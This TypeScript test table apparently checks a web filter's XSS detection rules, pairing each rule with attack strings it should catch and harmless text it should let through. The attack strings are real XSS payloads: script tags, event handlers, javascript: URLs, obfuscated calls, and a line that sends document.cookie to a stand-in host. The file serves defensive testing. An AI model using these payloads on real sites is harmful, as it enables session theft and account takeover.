// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks on templates look like placeholders.
import { at, type CaseTable, cookie, form, header, json, xml } from "./support.ts";

/** Longer than what the rules for attributes look across. */
const LONG_TAG = `<${"a".repeat(40)}>`;

export const xssCases: CaseTable = {
  "wc-xss-script-element": {
    matches: [
      "<script>alert(1)</script>",
      at("/%3Cscript%3Ealert(1)%3C/script%3E"),
      header("Referer", "https://x.example/?<script src=//e.example>"),
      cookie("<ScRiPt/x>"),
    ],
    passes: ["script", "<scripture>", "javascript tutorial", form("the <script> element")],
  },
  "wc-xss-script-element-body": {
    matches: [
      form("<script>x()</script>"),
      form("Hi! <script>alert(document.cookie)</script>"),
      json({ a: '"><script>1' }),
    ],
    passes: [
      form('# Usage\n\nAdd `<script src="https://cdn.example/a.js"></script>` to your page.'),
      form("The <script> element loads code."),
      "script alert",
    ],
  },
  "wc-xss-event-attribute": {
    matches: ["<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<body onpageshow = x>"],
    passes: ["a < b on = c", "<b>online=1</b>", "one=1&two=2", "<img src=on.png>"],
  },
  "wc-xss-event-attribute-body": {
    matches: [
      form("<img src=x onerror=alert(1)>"),
      form('Text <a onmouseover="alert(1)">x</a>'),
      json({ n: "<svg onload=x>" }),
      json({ [LONG_TAG]: { "<svg onload=x>": 1 } }),
      form("x", `${LONG_TAG}[<svg onload=x>]`),
      form("x", `${LONG_TAG}.<svg onload=x>`),
    ],
    passes: [
      form('<p>Text</p><button class="a" onclick="toggleMenu()">Menu</button>'),
      form("if (a < b) { on = c; }"),
      form("<b>turn it on = now</b>"),
    ],
  },
  "wc-xss-event-attribute-other": {
    matches: [
      form('<p>Text</p><button onclick="toggleMenu()">Menu</button>'),
      json({ a: "<b onmouseup='x(1)'>y</b>" }),
    ],
    passes: [form("<b>on click = now</b>"), form("<Menu onSelect={pick} />")],
  },
  "wc-xss-attribute-breakout": {
    matches: ['x" onmouseover=alert(1) y="', "' autofocus onfocus=eval(name) '", '"onclick="alert`1`"'],
    passes: ['he said "on load = 5"', "it's on = off", 'size="3" online=1', "one's onboarding=yes"],
  },
  "wc-xss-script-url": {
    matches: [
      "javascript:alert(1)",
      " JaVaScRiPt:%61lert(1)",
      "java\nscript:alert(1)",
      form("javascript://x%0aalert(1)"),
    ],
    passes: [
      "JavaScript: The Good Parts",
      "javascript: void what is it",
      "typescript:alert",
      "learn javascript:(beginner",
    ],
  },
  "wc-xss-script-url-attribute": {
    matches: [
      '<a href="javascript:alert(1)">x</a>',
      form("<iframe src=javascript:x>"),
      "<form action='data:text/html,x'>",
    ],
    passes: [
      form('<a href="https://a.example/">x</a>'),
      form('<img src="data:image/png;base64,iVBOR">'),
      "href=javascript",
    ],
  },
  "wc-xss-html-data-url": {
    matches: ["data:text/html,<b>", form("data:text/html;base64,PHNjcmlwdD4=")],
    passes: ["data:image/png;base64,iVBORw0", "data: text and html", "metadata:text/html"],
  },
  "wc-xss-embedding-element": {
    matches: ["<iframe src=//e.example>", "<svg width=1>", cookie("<base href=//e.example/>")],
    passes: [
      "<b>bold</b>",
      "a <- b",
      "svg icons",
      form('<iframe src="https://video.example/embed/1"></iframe>'),
    ],
  },
  "wc-xss-embedding-element-body": {
    matches: [form("<base href='//e.example/'>"), json({ a: "<embed src=https://e.example/x.swf>" })],
    passes: [form("<base href='/shop/'>"), form("Use <embed src=https://e.example/x.swf>.")],
  },
  "wc-xss-embedded-document": {
    matches: ["<iframe srcdoc=x>", form("<svg><script>1</script></svg>"), form("<math><maction x>")],
    passes: [
      form('<iframe src="https://video.example/embed/1"></iframe>'),
      form('<svg><path d="M0 0"/></svg>'),
      "srcdoc",
    ],
  },
  "wc-xss-script-continuation": {
    matches: ["';alert(1)//", '"-confirm(1)-"', "x'+eval(name)+'", "${alert(1)}"],
    passes: [
      "'alert' (noun)",
      "don't prompt (me)",
      "alert(s) and prompts",
      form("Use `x`; then call alert(1)."),
    ],
  },
  "wc-xss-script-code": {
    matches: [
      "confirm(1)",
      cookie("[1].map(alert)"),
      at("/eval(name)"),
      header("X-A", "import('//e.example')"),
    ],
    passes: ["how to use confirm(1)", "a(b) and c(d)", form("prompt(1)")],
  },
  "wc-xss-script-code-body": {
    matches: [form("prompt(1)"), json({ a: "setTimeout('x()')" })],
    passes: [form("Then call prompt(1) and wait."), form('alert("Saved the file!")'), "prompt(1)"],
  },
  "wc-xss-hidden-call": {
    matches: [form("top['al'+'ert'](1)"), form("[]['map']['constructor']('x')()"), "self['\\x61lert'](1)"],
    passes: [form("items['a' + id](1)"), form("this.constructor.name"), form("obj['call'](1)")],
  },
  "wc-xss-mutation": {
    matches: [
      form('<noscript><p title="</noscript><img src=x onerror=x()>">'),
      json({ a: "<svg></p><style><a id='</style><b onclick=x(1)>'>" }),
    ],
    passes: [form('<p title="a </b> b">'), form('<img alt="<b>" src="/a.png">')],
  },
  "wc-xss-style-script": {
    matches: ["<p style=width:expression(alert(1))>", '<b style="-moz-binding:url(x)">'],
    passes: ["regular expression (regex)", "<p style=color:red>", "style = my expression"],
  },
  "wc-xss-document-access": {
    matches: ["new Image().src='//e/?'+document.cookie", "x.innerHTML=1", "document.write(1)"],
    passes: [
      "document cookie policy",
      "documents.write",
      "set innerHTML",
      form("document.cookie holds the cookies"),
    ],
  },
  "wc-xss-call": {
    matches: ["alert(1)", "prompt`1`", "confirm(document.domain)"],
    passes: ["alert (amber)", "prompt (what to write to a language model)", "reconfirm(1)"],
  },
  "wc-xss-markup-breakout": {
    matches: ['"><b>x', "'/><i>"],
    passes: ["a > b < c", '"quoted" <b>'],
  },
  "wc-xss-any-markup": {
    matches: ["<b>x</b>", "<a href=x>"],
    passes: ["1 < 2", "<3", xml("<a/>")],
  },
};
